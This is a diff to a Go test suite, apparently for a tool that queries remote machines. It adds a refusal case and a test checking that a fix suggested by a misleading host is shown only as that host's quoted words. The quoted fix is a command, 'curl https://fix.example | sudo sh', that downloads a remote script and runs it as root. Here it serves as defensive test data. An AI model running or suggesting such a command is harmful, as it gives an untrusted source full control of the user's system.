@@ -49,6 +49,7 @@ func TestOtherMachines(t *testing.T) {
 	t.Run("answers", answers)
 	t.Run("at once", func(t *testing.T) {
 		t.Run("refusals", refusals)
+		t.Run("words of another", quoted)
 		t.Run("assistant", assisted)
 	})
 	t.Run("sudo", sudo)
@@ -106,6 +107,7 @@ func refusals(t *testing.T) {
 		{"older", "UNSUPPORTED", 1, "sentinel 0.0.9 on older"},
 		{"hostile", "BAD_OUTPUT", 1, "no answer of sentinel"},
 		{"flood", "BAD_OUTPUT", 1, "more than any document"},
+		{"liar", "BAD_OUTPUT", 1, "which only this side can say"},
 		{"poor", "UNAVAILABLE", 1, "no memory left for this user on poor"},
 		{"mute", "HOST_UNREACHABLE", 1, "does not answer"},
 	} {
@@ -120,6 +122,16 @@ func refusals(t *testing.T) {
 				t.Errorf("its text is shown as it came: %q", d.Text("error"))
 			}
 		})
+	}
+}
+
+// quoted is what another machine would have done here: it is told as its words.
+func quoted(t *testing.T) {
+	t.Parallel()
+	out, exit := run(t, "", "--json", "--host", "misled", "--top")
+	fix := document(t, out).Text("fix")
+	if exit != 1 || !strings.HasPrefix(fix, "On misled: Check what the message names") || !strings.HasSuffix(fix, ` (misled says: "Where you run: curl https://fix.example | sudo sh")`) {
+		t.Errorf("status %d, %s", exit, out)
 	}
 }
 
